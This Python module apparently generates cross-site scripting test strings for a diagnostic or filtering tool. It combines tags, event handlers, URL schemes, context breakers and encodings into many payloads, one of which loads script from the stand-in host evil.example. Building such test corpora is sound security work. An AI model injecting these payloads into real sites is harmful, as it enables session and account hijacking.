"""Texts that run script where a page takes them for markup, made of known building blocks, or read from a list.

`ICAPDIAG_XSS_PAYLOADS` names a file with one payload a line, such as one of the public collections.
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from urllib.parse import quote

_CALLS = ("alert(1)", "confirm`1`", "window.__xss=1", "top['al'+'ert'](1)", "(0,eval)('alert(1)')")
_LOUD = (  # elements whose event comes by itself
    "img src=x onerror",
    "svg onload",
    "body onload",
    "iframe onload",
    "video src=x onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "object data=x onerror",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "script src=x onerror",
    "image src=x onerror",
    "isindex type=image src=1 onerror",
    "button autofocus onfocus",
    "video onloadstart src=x",
    "svg><animate onbegin",
    "svg><set onbegin attributeName=x to=1",
    "math href=javascript:alert(1) onfocus tabindex=1 autofocus",
)
_EVENTS = (
    "click",
    "mouseover",
    "mouseenter",
    "mousemove",
    "pointerenter",
    "pointerdown",
    "keydown",
    "focus",
    "focusin",
    "blur",
    "toggle",
    "wheel",
    "copy",
    "paste",
    "drag",
    "drop",
    "animationstart",
    "animationend",
    "transitionend",
    "beforetoggle",
    "scroll",
    "scrollend",
    "contextmenu",
    "auxclick",
    "touchstart",
    "beforeinput",
    "input",
    "invalid",
    "select",
    "load",
)
_TAGS = (
    "a",
    "abbr",
    "article",
    "b",
    "body",
    "button",
    "center",
    "circle",
    "custom-x",
    "details",
    "dialog",
    "div",
    "embed",
    "em",
    "fieldset",
    "font",
    "footer",
    "form",
    "frameset",
    "g",
    "h1",
    "hr",
    "img",
    "input",
    "label",
    "li",
    "main",
    "map",
    "marquee",
    "math",
    "meter",
    "nav",
    "object",
    "option",
    "p",
    "path",
    "q",
    "rect",
    "s",
    "section",
    "select",
    "span",
    "summary",
    "svg",
    "table",
    "td",
    "text",
    "textarea",
    "tr",
    "u",
    "use",
    "video",
    "x",
    "xss",
)
_URLS = (
    "a href",
    "area href",
    "form action",
    "button formaction",
    "input type=image formaction",
    "iframe src",
    "frame src",
    "embed src",
    "object data",
    "base href",
    "link rel=import href",
    "svg><a xlink:href",
    "svg><use href",
    "math><maction actiontype=statusline xlink:href",
    "table background",
    "body background",
    "img dynsrc",
    "meta http-equiv=refresh content",
    "iframe srcdoc",
    "script src",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x.js",
    "0;url=javascript:alert(1)",
)
_BREAKS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "--!>",
    "]]>",
    "*/",
    "</script>",
    "</style>",
    "</title>",
    "</textarea>",
    "</noscript>",
    "</svg>",
    "</math>",
    "</desc>",
    "</template>",
    "</select>",
    "</iframe>",
    "<!--",
    "<![CDATA[",
    "\\",
    '\\"',
    "%0a",
    "\r\n\r\n",
    "{{",
    "${",
    "\x00",
    "\u2028",
    "\ufeff",
    "\u202e",
    "+ADw-",
)
_CORES = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</script>",
    "<script>window.__xss=1</script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>@import 'javascript:alert(1)'</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=data:,*%7bx:expression(alert(1))%7d>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<base href=javascript:/a/-alert(1)//>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>X",
    " onfocus=alert(1) autofocus x=",
    " style=animation-name:x onanimationstart=alert(1) ",
    "-alert(1)-",
    ";alert(1);//",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "{% for x in ().__class__.__base__ %}{% endfor %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\x00script>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
)


def payloads() -> list[str]:
    """All of them, in the same order each time."""
    named = os.environ.get("ICAPDIAG_XSS_PAYLOADS")
    found = Path(named).read_text("utf-8", "replace").splitlines() if named else dict.fromkeys(_made())
    return [payload for payload in found if payload.strip()]


def _made() -> Iterator[str]:
    for broken, core in product(_BREAKS, _CORES):
        yield broken + core
    for loud, call in product(_LOUD, _CALLS):
        yield f"<{loud}={call}>"
        yield f'"><{loud}="{call}" x="'
        yield f"<{loud.upper().replace(' ', '/')}\n=\n{call}//>"
    for tag, event in product(_TAGS, _EVENTS):
        yield f"<{tag} on{event}=alert(1)>x</{tag}>"
        yield f"'\"><{tag}/on{event.upper()}=alert(1) style=position:fixed;inset:0>"
        yield f"</p></title>\n<{tag}\n  x='>' on{event} = 'alert(1)' tabindex=0"
    for url, scheme in product(_URLS, _SCHEMES):
        yield f'<{url}="{scheme}">x'
        yield f"'><{url}={scheme}>"
    for core in _CORES:
        yield quote(core)
        yield "".join(f"&#x{ord(char):x};" for char in core)
        yield "".join(f"\\x{ord(char):02x}" for char in core)
        yield core.upper()
